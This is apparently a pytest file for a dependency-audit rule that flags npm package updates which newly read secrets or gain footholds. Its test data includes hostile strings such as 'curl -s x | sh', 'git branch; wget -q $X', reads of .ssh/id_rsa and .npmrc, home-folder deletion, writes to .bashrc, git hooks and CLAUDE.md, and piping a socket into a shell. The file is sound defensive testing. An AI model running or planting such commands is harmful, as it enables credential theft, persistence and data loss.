"""Secrets that were read before or are one's own, then new ones."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from support.subjects import compared, found, package, subject, use

from audit.model.manifest import Manifest
from audit.model.mention import SHELL, Mention, Mentioned
from audit.model.package import Evidence

if TYPE_CHECKING:
    from audit.model.finding import Finding

RULE = "new-secret-access"
SEND = use("builtin:https.request", "network")


def env(name: str) -> Any:
    return use(f"global:process.env.{name}", "environment")


def reading(path: str) -> Any:
    return use("builtin:fs.readFileSync", "filesystem-read", literals=[path])


def judged(
    old: list[Any], new: list[Any], name: str = "a", step: str = "patch", **fields: Any
) -> tuple[Finding, ...]:
    location = f"node_modules/{name}"
    after = package(location, *new, **fields)
    return found(RULE, compared(package(location, *old), after, step))


SILENT: dict[str, tuple[list[Any], list[Any]]] = {
    "the same": ([env("NPM_TOKEN")], [env("NPM_TOKEN"), SEND]),
    "no secret": ([], [env("HOME"), env("HTTP_PROXY"), SEND]),
    "a plain file": ([], [reading("config.json"), SEND]),
    "gone": ([env("NPM_TOKEN")], [SEND]),
}


@pytest.mark.parametrize(("old", "new"), SILENT.values(), ids=SILENT)
def test_silent(old: list[Any], new: list[Any]) -> None:
    assert judged(old, new) == ()


def test_a_service_may_start_to_read_its_own_token() -> None:
    assert judged([], [env("LEDGER_TOKEN"), SEND], "@ledger/cli") == ()
    assert judged([], [env("LEDGER_TOKEN"), SEND], "left-fill-x")
    assert judged([], [env("LEDGERPAY_TOKEN"), SEND], "ledger-pay-sdk") == ()
    assert judged([], [env("OTHER_API_KEY"), SEND], "ledger-api")
    assert judged([], [env("OTHER_TOKEN"), SEND], "ledger-token")


def test_one_service_may_have_two_names() -> None:
    (finding,) = judged([env("GITHUB_TOKEN"), SEND], [env("GITHUB_TOKEN"), env("GH_TOKEN"), SEND])
    assert finding.severity == "moderate"


def test_without_a_version_before_another_rule_speaks() -> None:
    assert found(RULE, subject(package("node_modules/a", env("NPM_TOKEN"), SEND))) == ()


FIRING: dict[str, tuple[str, list[Any]]] = {
    "a token and the network": ("high", [env("NPM_TOKEN"), SEND]),
    "a file and programs": (
        "high",
        [reading("/home/u/.npmrc"), use("builtin:child_process.exec", "process")],
    ),
    "a token alone": ("high", [env("NPM_TOKEN")]),
    "a file alone": ("high", [reading(".ssh/id_rsa")]),
    "a project's settings": ("high", [reading(".env.production")]),
}


@pytest.mark.parametrize(("severity", "new"), FIRING.values(), ids=FIRING)
def test_firing(severity: str, new: list[Any]) -> None:
    (finding,) = judged([], new)
    assert finding.severity == severity


def test_a_feature_may_want_to_read() -> None:
    for path in (".ssh/id_rsa", ".env"):
        (finding,) = judged([], [reading(path)], step="minor")
        assert finding.severity == "moderate"
    assert judged([reading(".env")], [reading("x/.env.local")]) == ()


def test_the_project_s_own_package_json_is_written() -> None:
    writes = use("builtin:fs.writeFileSync", "filesystem-write", literals=["package.json"])
    assert [each.severity for each in judged([], [writes])] == ["high"]
    assert [each.severity for each in judged([], [writes], step="minor")] == ["moderate"]
    old = [use("builtin:fs.writeFileSync", "filesystem-write")]
    assert [each.severity for each in judged(old, [writes])] == ["moderate"]
    assert judged([writes], [writes]) == ()


def test_a_password_is_asked_for() -> None:
    asks = starting("display dialog x with hidden answer")
    assert [each.severity for each in judged([starting("ls")], [asks])] == ["high"]


def test_a_member_that_turns_a_check_off() -> None:
    place = Evidence("index.js", 4, 1, "{ rejectUnauthorized: false }")
    off = Mention(Mentioned.SWITCH, "", "rejectUnauthorized", place)
    (finding,) = judged([SEND], [SEND], mentions=(off,))
    assert (finding.severity, "turns off a check" in finding.message) == ("high", True)


def starting(command: str) -> Any:
    return use("builtin:child_process.exec", "process", literals=[command])


def test_a_command_that_downloads_where_others_were_started() -> None:
    plain, loud = starting("git branch"), starting("git branch; wget -q $X")
    (finding,) = judged([plain], [loud])
    assert (finding.severity, "downloads" in finding.message) == ("high", True)
    (finding,) = judged([plain], [loud], step="minor")
    assert finding.severity == "moderate"
    (finding,) = judged([loud], [starting("curl -s x | sh")])
    assert finding.severity == "high"
    assert judged([loud], [starting("curl -fsSL x")]) == ()


def test_a_package_that_is_fetched_and_run() -> None:
    run = use("builtin:child_process.spawn", "process", literals=["npx", "--yes", "pre-x@latest"])
    (finding,) = judged([starting("ls")], [run])
    assert (finding.severity, "npx --yes" in finding.message) == ("high", True)


def test_a_breaking_release_has_no_reason_either() -> None:
    (finding,) = judged([starting("ls")], [starting("crontab -")], step="major")
    assert finding.severity == "high"


def test_the_search_path_of_the_process() -> None:
    place = "index.js:4:1:process.env.PATH = tmp + process.env.PATH"
    (finding,) = judged([], [use("global:process.env.PATH", "environment", place)])
    assert finding.severity == "high"
    read = use("global:process.env.PATH", "environment", "index.js:4:1:x = process.env.PATH")
    assert judged([], [read]) == ()


def writing(literal: str, file: str = "index.js") -> Any:
    return use("builtin:fs.writeFileSync", "filesystem-write", file, literals=[literal])


def joining(literal: str) -> Any:
    return use("builtin:path.join", "none", literals=[literal])


def script(path: str, text: str = "#!/bin/sh\nexec true") -> Any:
    place = Evidence("index.js", 1, 1, "write(path, text)", literals=(path, text))
    return replace(writing(path), evidence=(place,), literals=(path, text))


WRITES = use("builtin:fs.writeFileSync", "filesystem-write")
NO_FOOTHOLDS: dict[str, tuple[list[Any], list[Any]]] = {
    "named before": ([writing(".bashrc")], [writing(".bashrc"), WRITES]),
    "only read": ([], [reading(".github/workflows/test.yml"), reading("/home/u/.bashrc")]),
    "nothing is written": ([], [joining(".git/hooks")]),
    "a cache in node_modules": ([], [writing("node_modules/.cache/x.js")]),
    "inside its own package": ([], [writing("./../data/x.js", "lib/deep.js")]),
    "a word": ([], [writing("see the profile of github"), writing("x.asar.txt")]),
    "a script for tests": ([], [script("scripts/test")]),
    "a file called as a program": ([], [writing("git")]),
    "no code": ([], [writing("./../report/result.txt")]),
    "words of a document": ([], [writing("docs/for-agents.md"), writing("Desktop.md")]),
}


@pytest.mark.parametrize(("old", "new"), NO_FOOTHOLDS.values(), ids=NO_FOOTHOLDS)
def test_no_foothold(old: list[Any], new: list[Any]) -> None:
    assert judged(old, new) == ()


FOOTHOLDS: dict[str, list[Any]] = {
    "a shell's profile": [writing("/home/u/.zshrc")],
    "in a command": [
        use("builtin:child_process.exec", "process", literals=["echo x >> ~/.bashrc"])
    ],
    "put together": [joining(".bashrc"), WRITES],
    "git's hooks": [writing(".git/hooks/pre-commit")],
    "a workflow": [writing(".github/workflows/x.yml")],
    "a workflow's folder, put together": [joining(".github"), WRITES],
    "an editor's tasks": [writing(".vscode/tasks.json")],
    "what starts with the session": [writing("/Users/u/Library/LaunchAgents/x.plist")],
    "a desktop program": [writing("/opt/x/resources/app.asar")],
    "another package": [writing("node_modules/other-x/index.js")],
    "hooks of another package manager": [writing("/work/.pnpmfile.cjs")],
    "an assistant's rules": [writing("CLAUDE.md")],
    "the desktop": [joining("Desktop/READ.txt"), WRITES],
    "a script in the place of a program": [script("git")],
    "a folder of commands": [script(".local/bin/ssh-agent", "text")],
    "the package beside it": [writing("./../other-x/lib/index.js")],
}


@pytest.mark.parametrize("new", FOOTHOLDS.values(), ids=FOOTHOLDS)
def test_a_foothold(new: list[Any]) -> None:
    (finding,) = judged([WRITES], new)
    assert (finding.severity, "something else runs" in finding.message) == ("high", True)


def named(path: str, *, reachable: bool = True) -> Mention:
    return Mention(Mentioned.PATH, "", path, Evidence("index.js", 3, 1, path, reachable))


def mentioning(old: list[Any], new: list[Any], *uses: Any) -> tuple[Finding, ...]:
    before = package("node_modules/a", *uses, mentions=tuple(old))
    return found(RULE, compared(before, package("node_modules/a", *uses, mentions=tuple(new))))


READS = use("builtin:fs.readFileSync", "filesystem-read")


def test_a_path_that_is_handed_to_what_reads() -> None:
    (finding,) = mentioning([], [named("/home/u/.npmrc")], READS, SEND)
    assert (finding.severity, finding.evidence[0].line) == ("high", 3)
    (finding,) = mentioning([], [named("${home}/.ssh/authorized_keys")], WRITES)
    assert (finding.severity, "something else runs" in finding.message) == ("high", True)


def test_another_programs_secrets_are_enough_by_themselves() -> None:
    (finding,) = mentioning([], [named("/proc/${pid}/mem")], READS)
    assert finding.severity == "high"


@pytest.mark.parametrize(
    ("old", "new", "uses"),
    [
        pytest.param([], [named(".npmrc")], [SEND], id="nothing reads"),
        pytest.param([], [named(".bashrc")], [READS], id="nothing writes"),
        pytest.param(
            [named(".npmrc")], [named("${home}/.npmrc")], [READS, SEND], id="written anew"
        ),
        pytest.param([], [named("./config")], [READS, WRITES, SEND], id="a plain path"),
    ],
)
def test_a_mention_alone(old: list[Any], new: list[Any], uses: list[Any]) -> None:
    assert mentioning(old, new, *uses) == ()


def running(*literals: str) -> Any:
    return use("builtin:child_process.spawn", "process", literals=literals)


COMMANDS = {
    "an assistant that does not ask": running("any", "--dangerously-skip-permissions", "-p"),
    "a token is asked for": running("gh", "auth", "token"),
    "in one text": running("git config --global core.hooksPath x"),
    "a library of another system": running("C:\\Windows\\rundll32.exe x.dll,main", "rundll32.exe"),
    "all that a user has": running('find "$HOME" -type f -delete'),
    "the home folder": use("builtin:fs.rmSync", "filesystem-write", literals=["~"]),
}


@pytest.mark.parametrize("new", COMMANDS.values(), ids=COMMANDS)
def test_a_command_that_updates_seldom_need(new: Any) -> None:
    (finding,) = judged([running("git", "status"), WRITES], [running("git", "status"), WRITES, new])
    assert finding.severity == "high"


@pytest.mark.parametrize(
    "new",
    [
        running("git", "config", "user.name"),
        running("npm", "install"),
        running("rm -rf dist", "rm -rf ./~cache"),
        use("builtin:fs.rmSync", "filesystem-write", literals=["~/.cache/x", "dist"]),
        use("builtin:fs.readFileSync", "filesystem-read", literals=["~"]),
        use("builtin:util.format", "none", literals=["crontab"]),
    ],
)
def test_an_ordinary_command(new: Any) -> None:
    assert judged([], [new]) == ()


def variable(text: str) -> Any:
    return use(
        "global:process.env.NODE_TLS_REJECT_UNAUTHORIZED", "environment", f"index.js:1:1:{text}"
    )


def test_a_check_that_is_turned_off() -> None:
    name = "process.env.NODE_TLS_REJECT_UNAUTHORIZED"
    (finding,) = judged([], [variable(f"{name} = '0'")])
    assert (finding.severity, "turns off" in finding.message) == ("high", True)
    assert judged([], [variable(f"{name} === '0'"), variable(f"{name} || 1")]) == ()


def test_an_option_that_loads_code_into_every_node() -> None:
    def options(text: str) -> Any:
        return use("global:process.env.NODE_OPTIONS", "environment", f"index.js:1:1:{text}")

    (finding,) = judged([], [options("process.env.NODE_OPTIONS = '--require ' + hook")])
    assert (finding.severity, "turns off" in finding.message) == ("high", True)
    assert judged([], [options("process.env.NODE_OPTIONS = '--max-old-space-size=4096'")]) == ()
    assert judged([], [options("process.env.NODE_OPTIONS || '--require x'")]) == ()


SET = "index.js:1:1:process.env."
WHOLE = Mention(Mentioned.ENVIRONMENT, "", "process.env", Evidence("index.js", 2, 1))
GRAVE: dict[str, Any] = {
    "the engine of containers": use(
        "builtin:http.request", "network", literals=["/run/docker.sock"]
    ),
    "code in an address of data": use(
        "builtin:child_process.fork", "process", literals=["--import", "data:text/javascript,x()"]
    ),
    "the working folder": use(
        "builtin:fs.rmSync",
        "filesystem-write",
        "index.js:1:1:rmSync(process.cwd(), { force: true })",
    ),
    "what the home folder holds": use(
        "builtin:fs.rmSync", "filesystem-write", "index.js:1:1:rmSync(os.homedir() + '/' + name)"
    ),
    "a container with all rights": use(
        "builtin:child_process.spawn", "process", literals=["docker", "run", "--privileged"]
    ),
    "a machine that all requests pass": use(
        "global:process.env.HTTPS_PROXY", "environment", f"{SET}HTTPS_PROXY ||= 'http://p.invalid'"
    ),
}
PLAIN: dict[str, Any] = {
    "a database's socket": use(
        "builtin:net.connect", "network", literals=["/run/mysqld/mysqld.sock"]
    ),
    "a picture in an address of data": use(
        "builtin:child_process.spawn", "process", literals=["data:image/png;base64,AA"]
    ),
    "a folder in the home folder": use(
        "builtin:fs.rmSync", "filesystem-write", "index.js:1:1:rmSync(os.homedir() + '/.cache-x')"
    ),
    "a container": use("builtin:child_process.spawn", "process", literals=["docker", "run"]),
    "a folder in the working folder": use(
        "builtin:fs.rmSync", "filesystem-write", "index.js:1:1:rmSync(join(process.cwd(), 'dist'))"
    ),
    "a proxy that the user gives": use(
        "global:process.env.HTTPS_PROXY", "environment", f"{SET}HTTPS_PROXY = options.proxy"
    ),
    "a proxy of this machine": use(
        "global:process.env.HTTPS_PROXY", "environment", f"{SET}HTTPS_PROXY = 'http://127.0.0.1:80'"
    ),
}


@pytest.mark.parametrize("new", GRAVE.values(), ids=GRAVE)
def test_what_is_grave_by_itself(new: Any) -> None:
    (finding,) = judged([], [new])
    assert finding.severity == "high"
    assert judged([new], [new, SEND]) == ()


@pytest.mark.parametrize("new", PLAIN.values(), ids=PLAIN)
def test_what_looks_like_it(new: Any) -> None:
    assert judged([], [new]) == ()


def test_a_text_of_the_whole_environment() -> None:
    (finding,) = mentioning([], [WHOLE])
    assert (finding.severity, "whole environment" in finding.message) == ("high", True)
    assert mentioning([WHOLE], [WHOLE]) == ()


def test_another_secret_of_a_service_that_was_asked_before() -> None:
    old = [env("AWS_SECRET_ACCESS_KEY"), SEND]
    (finding,) = judged(old, [*old, env("AWS_SESSION_TOKEN")])
    assert finding.severity == "moderate"
    (finding,) = judged(old, [*old, env("AWS_SESSION_TOKEN"), env("NPM_TOKEN")])
    assert finding.severity == "high"


def test_the_place_where_the_file_is_named_is_shown() -> None:
    reads = use(
        "builtin:fs.readFileSync",
        "filesystem-read",
        "a.js:2",
        "b.js:3",
        literals=["/h/.npmrc", "x"],
    )
    there = reads.evidence[1]._replace(literals=("/h/.npmrc",))
    (finding,) = judged([], [replace(reads, evidence=(reads.evidence[0], there)), SEND])
    assert finding.evidence == (there,)


def asked(new: Any, step: str = "minor", files: tuple[str, ...] = ("init.js",)) -> str:
    (finding,) = judged([], [new], step=step, command_files=files)
    return finding.severity


def test_what_a_command_is_asked_to_put_into_a_project() -> None:
    workflow = writing(".github/workflows/ci.yml", "init.js")
    assert asked(workflow) == "moderate"
    assert asked(workflow, "patch") == "high"
    assert asked(workflow, files=()) == "high"
    assert asked(writing(".bashrc", "init.js")) == "moderate"
    assert asked(writing("/etc/cron.d/x", "init.js")) == "high"


def test_a_folder_and_its_file_named_apart() -> None:
    def at(identity: str, authority: str, literal: str, line: int) -> Any:
        place = Evidence("index.js", line, 1, literals=(literal,))
        return replace(use(identity, authority, literals=[literal]), evidence=(place,))

    folder = at("builtin:path.join", "none", ".vscode", 3)
    tasks = at("builtin:fs.writeFileSync", "filesystem-write", "tasks.json", 6)
    (finding,) = judged([], [folder, tasks])
    assert (finding.severity, ".vscode/tasks.json" in finding.message) == ("high", True)
    assert (
        judged([], [folder, at("builtin:fs.writeFileSync", "filesystem-write", "a.json", 6)]) == ()
    )
    assert (
        judged([], [folder, at("builtin:fs.writeFileSync", "filesystem-write", "tasks.json", 60)])
        == ()
    )


def test_a_service_s_own_secrets_of_who_signs_in_there() -> None:
    said = Manifest(name="a", description="credential providers for AWS")
    location, new = "node_modules/a", (env("AWS_SECRET_ACCESS_KEY"), SEND)
    before = package(location, manifest=said)
    (finding,) = found(RULE, compared(before, package(location, *new), "minor"))
    assert finding.severity == "moderate"
    (finding,) = found(
        RULE, compared(package(location), package(location, *new, manifest=said), "minor")
    )
    assert finding.severity == "high"


def test_one_more_service_of_several() -> None:
    def client(*names: str) -> list[Any]:
        uses = []
        for name in names:
            place = f"{name}.js:1:1"
            uses.append(use(f"global:process.env.{name.upper()}_API_KEY", "environment", place))
            host = f"https://api.{name}.example"
            uses.append(use("global:fetch", "network", place, literals=[host]))
        return uses

    (finding,) = judged(client("one", "two"), client("one", "two", "six"), step="minor")
    assert finding.severity == "moderate"
    (finding,) = judged(client("one"), client("one", "six"), step="minor")
    assert finding.severity == "high"


def test_a_script_that_is_written_reads_a_secret() -> None:
    reads = script("run.sh", "#!/bin/sh\ntrue $NPM_TOKEN")
    (finding,) = judged([WRITES], [reads])
    assert (finding.severity, "NPM_TOKEN" in finding.message) == ("high", True)
    assert judged([WRITES], [script("run.sh", "#!/bin/sh\ntrue $HOME")]) == ()
    assert judged([WRITES], [script("notes", "true $NPM_TOKEN")]) == ()


def test_no_feature_gives_a_shell_what_a_connection_sends() -> None:
    place = Evidence("index.js", 4, 1, "s.pipe(sh.stdin)")
    for text, severity in ((SHELL, "high"), ("runs a file that it writes", "moderate")):
        given = Mention(Mentioned.PASSED, "", text, place)
        (finding,) = judged([SEND], [SEND], step="minor", mentions=(given,))
        assert finding.severity == severity
